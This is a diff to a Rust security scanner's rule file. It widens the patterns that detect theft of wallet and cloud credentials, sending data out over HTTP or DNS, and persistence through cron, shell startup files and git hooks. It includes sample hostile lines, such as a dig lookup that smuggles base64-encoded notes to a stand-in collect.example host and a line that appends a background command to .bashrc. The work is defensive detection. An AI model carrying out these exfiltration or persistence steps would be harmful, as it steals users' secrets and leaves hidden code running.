@@ -14,6 +14,8 @@ const PRIVATE: Pattern = but(
         "keychain",
         "find-generic-password",
         "wallet",
+        "solana/id",
+        "ethereum/keystore",
         "environ",
         "process.env",
         "printenv",
@@ -30,7 +32,7 @@ const PRIVATE: Pattern = but(
         r"\x22\.ssh\x22\s*[/,]|['\x22]\.ssh/id_\w+['\x22]",
         r"\b(login\s+data|cookies\.sqlite|logins\.json|key4\.db|local\s+extension\s+settings)\b|(chrome|firefox|brave|edge)\S*.{0,80}/(default|profiles?)/(\w+/)?(cookies|login\s+data|web\s+data)",
         r"security\s+(find-(generic|internet)-password|dump-keychain)|login\.keychain",
-        r"(exodus|electrum|atomic|metamask|phantom|wallet\.dat)\S*.{0,40}(wallet|leveldb|\.dat|vault)",
+        r"(exodus|electrum|atomic|metamask|phantom|wallet\.dat)\S*.{0,40}(wallet|leveldb|\.dat|vault)|\bwallet\.dat\b|\.config/solana/id\.json|\.ethereum/keystore",
         r"(dumps|stringify|\bstr|data=|json=|body:?)\s*\(?.{0,24}\b(os\.environ|process\.env)\b\s*[),}\]]",
         r"\b(printenv|env|set|export\s+-p)\s*\|\s*(curl|nc|ncat|base64|gzip|wget|openssl)|get-childitem\s+env:",
     ],
@@ -51,10 +53,12 @@ const CLOUD: Pattern = but(
         "hosts.yml",
         ".azure",
         ".env",
+        "netrc.netrc",
     ],
     &[
         r"(cat|open|read\w*|cp|copy\w*|tar|zip|base64|load|Path)\b.{0,80}(\.aws\b[^a-z]{0,6}(credentials|config)|\.kube/config|gcloud/(application_default|credentials)|\.netrc|\.npmrc|\.pypirc|\.docker/config\.json|\.git-credentials|gh/hosts\.yml|\.azure/(accessTokens|msal))",
         r"(cat|tar|zip|base64)\s+\S*\.env\s*\|\s*(curl|nc|ncat|base64|gzip)",
+        r"\bnetrc\.netrc\s*\(",
     ],
     r"\.env\.example",
 );
@@ -62,18 +66,46 @@ const CLOUD: Pattern = but(
 /// Sending something away.
 const SEND: Pattern = but(
     &[
-        "curl", "wget", "post", "put(", "upload", "socket", "nc ", "ncat", "smtp", "sendall", "scp ", "dig ",
-        "nslookup", "urlopen", "invoke-",
+        "curl",
+        "wget",
+        "post",
+        "put(",
+        "upload",
+        "socket",
+        "nc ",
+        "ncat",
+        "smtp",
+        "sendall",
+        "scp ",
+        "dig ",
+        "nslookup",
+        "urlopen",
+        "http.",
+        "net::http",
+        "resolv",
+        "httpclient",
+        "reqwest",
+        "urlsession",
+        "invoke-",
+        "requests.get",
+        "httpx.get",
+        "fetch(",
     ],
     &[
         r"\bcurl\b[^|]*\s(-d|-F|-T|--data\S*|--form|--upload-file|--json|-X\s*(POST|PUT))\b|\bcurl\b.{0,120}(\$\(|\x60|[?&]\w+=\$)",
         r"\bwget\b.*--(post|body)-(data|file)|\b(requests|httpx|session|client|axios|aiohttp)\.(post|put|patch)\s*\(",
         r"urlopen\s*\(.*(data|Request)|Request\s*\(.*data\s*=|method:?\s*=?\s*['\x22](POST|PUT)['\x22]",
         r"\|\s*(nc|ncat|netcat)\s+\S+\s+\d+|\.sendall\s*\(|smtplib\.|\bscp\s+\S+\s+\S+@|(dig|nslookup|ping)\s+.{0,40}\$\(",
+        r"\bwget\b.{0,160}[?&]\w+=['\x22]?(\$|\x60)|\b(urlopen|requests\.get|httpx\.get|fetch)\s*\(\s*[a-z]?['\x22\x60]https?://[^'\x22\x60]*[?&=][^\n]{0,120}(\+|\{|%)",
+        r"\bhttp\.(post|newrequest)\w*\s*\(|net::http|\bresolv(::dns)?\.|\bhttpclient\b|\breqwest::|\burlsession\b|\b\w+\.post\s*\(",
         r"(invoke-webrequest|invoke-restmethod|iwr|irm)\b.*-method\s+(post|put)|uploadstring|uploadfile",
     ],
     r"https?://(localhost|127\.0\.0\.1|0\.0\.0\.0)",
 );
+
+/// The startup files of shells.
+const RC_WORDS: &[&str] =
+    &[".bashrc", ".zshrc", ".profile", ".bash_profile", ".zprofile", ".zshenv", "config.fish"];
 
 pub(super) const RULES: &[Rule] = &[
     Rule {
@@ -217,11 +249,22 @@ pub(super) const RULES: &[Rule] = &[
         help: "find out what would run; look into crontab, LaunchAgents or the registry's Run key afterwards",
         scope: Any,
         test: Line(pattern(
-            &["crontab", "launchagents", "launchdaemons", "currentversion\\run", "schtasks", "systemctl"],
+            &[
+                "crontab",
+                "launchagents",
+                "launchdaemons",
+                "currentversion\\run",
+                "schtasks",
+                "systemctl",
+                "$profile",
+                "systemd/user",
+                "autostart",
+            ],
             &[
                 r"\|\s*crontab\s+-|>>?\s*/etc/cron|crontab\s+\S*(tmp|cron)\S*",
                 r"(cp|mv|tee|>|open\(|write\w*|launchctl\s+(load|bootstrap)).{0,80}(launchagents|launchdaemons)",
                 r"(reg(\.exe)?\s+add|set-itemproperty|new-itemproperty).{0,120}currentversion\\+run|schtasks(\.exe)?\s+/create",
+                r"(add-content|set-content|out-file|>>?)\b?.{0,60}\$profile\b|(cp|mv|tee|>|open\(|write\w*).{0,80}(\.config/systemd/user/|\.config/autostart/)\w",
             ],
         )),
         example: example("scripts/init.sh", "#!/bin/sh\necho '0 * * * * /opt/x' | crontab -\n"),
@@ -245,5 +288,115 @@ pub(super) const RULES: &[Rule] = &[
             r"^\s*(//|#|\*)",
         )),
         example: example("scripts/clean.sh", "#!/bin/sh\nrm -rf ~/\n"),
+    },
+    Rule {
+        id: "PA211",
+        family: Script,
+        severity: High,
+        title: "encoded or private data goes into names that are looked up",
+        why: "whoever answers for that name gets the data, past every rule about connections",
+        help: "do not run it",
+        scope: Code,
+        test: Both(
+            pattern(
+                &[
+                    "dig ",
+                    "nslookup",
+                    "host ",
+                    "ping ",
+                    "gethostbyname",
+                    "getaddrinfo",
+                    "dns.",
+                    "resolv",
+                    "net.lookup",
+                    "dns_get_record",
+                ],
+                &[
+                    r"\b(dig|nslookup|host|ping|drill)\b[^|\n]{0,60}(\$\(|\x60)[^\n]{0,200}\.[a-z]",
+                    r"\b(dig|nslookup|host|ping|drill)\b[^|;\n]{0,60}\$\{?\w+\}?\.[\w.-]*\.[a-z]{2,}",
+                    r"\b(gethostbyname|getaddrinfo|resolver\.(resolve|query)|dns\.(promises\.)?(resolve\w*|lookup)|resolv(::dns)?\.(getaddress|getname)|net\.lookup\w+|dns_get_record)\s*\([^)\n]{0,80}(\+|\$\{|#\{|%|\{\w|\.\s*\x22)",
+                ],
+            ),
+            pattern(
+                &[
+                    "base64",
+                    "b64encode",
+                    "encode64",
+                    "base32",
+                    "cat ",
+                    ".env",
+                    "hexlify",
+                    "tostring(",
+                    "xxd",
+                    "btoa(",
+                    ".hex()",
+                    "environ",
+                    "process.env",
+                    ".ssh",
+                    ".aws",
+                    ".npmrc",
+                    ".netrc",
+                    "whoami",
+                    "md5sum",
+                    "sha256sum",
+                ],
+                &[
+                    r"\b(base64|base32|b64encode|hexlify|xxd|whoami|md5sum|sha256sum|btoa)\b|encode64\b|\$\(\s*cat\s|\.env\b|tostring\(\s*['\x22](hex|base64)|\.hex\(\)|\b(os\.environ|process\.env)\s*[),]|\.(ssh|aws|npmrc|netrc)\b",
+                ],
+            ),
+            6,
+        ),
+        example: example("scripts/a.sh", "#!/bin/sh\ndig +short \"$(base64 -w0 notes).t.collect.example\"\n"),
+    },
+    Rule {
+        id: "PA212",
+        family: Script,
+        severity: Medium,
+        title: "a command is added to what runs with every shell",
+        why: "it stays when the skill is gone, and runs unseen",
+        help: "look into the startup files of your shell afterwards",
+        scope: Code,
+        test: Both(
+            but(
+                RC_WORDS,
+                &[
+                    r"(>>?|\btee\b|open\(|expanduser\(|home\(\)|homedir\(\)|join\().{0,80}\.(bashrc|zshrc|profile|bash_profile|zprofile|zshenv)\b|config\.fish",
+                ],
+                r"\bPATH=[^;|&\n]*['\x22]?\s*>>|eval\s+[\x22\x27\\]*\$\(\w+\s+(hook|init|env|shellenv|completion)[\s\w-]*\)",
+            ),
+            pattern(
+                &["curl", "wget", "nohup", "base64", "/tmp/", "write", "append", "&"],
+                &[
+                    r"\b(curl|wget|nohup|base64)\b|/tmp/\S|\bwrite(_text|lines|file\w*)?\s*\(|\bappend(file)?\w*\(|\s&\s*['\x22)]",
+                ],
+            ),
+            2,
+        ),
+        example: example("scripts/a.sh", "#!/bin/sh\necho '/tmp/tool &' >> ~/.bashrc\n"),
+    },
+    Rule {
+        id: "PA213",
+        family: Script,
+        severity: Medium,
+        title: "a hook of git is written",
+        why: "git runs it by itself, long after the skill was used",
+        help: "look at the hook; honest projects let people install their hooks",
+        scope: Code,
+        test: Both(
+            pattern(
+                &[".git/hooks", "hookspath"],
+                &[
+                    r"\.git/hooks/\w|git\s+config\s+.{0,40}core\.hookspath\s+['\x22]?(~|/|\$)|git\s+config\s+--global\s+core\.hookspath",
+                ],
+            ),
+            pattern(
+                &["write", "cp ", "mv ", "ln ", "chmod", "tee ", ">", "copy", "hookspath"],
+                &[
+                    r"\b(cp|mv|ln|install|tee)\s.{0,120}(\.git/hooks|hookspath)|>\s*['\x22]?\S*\.git/hooks|\bwrite(_text|file\w*)?\s*\(|\bcopy(file)?\w*\s*\(|open\(.{0,80}['\x22][wa]\+?['\x22]|core\.hookspath\s+\S",
+                ],
+            ),
+            4,
+        ),
+        example: example("scripts/a.sh", "#!/bin/sh\ncp hook.sh .git/hooks/pre-commit\n"),
     },
 ];
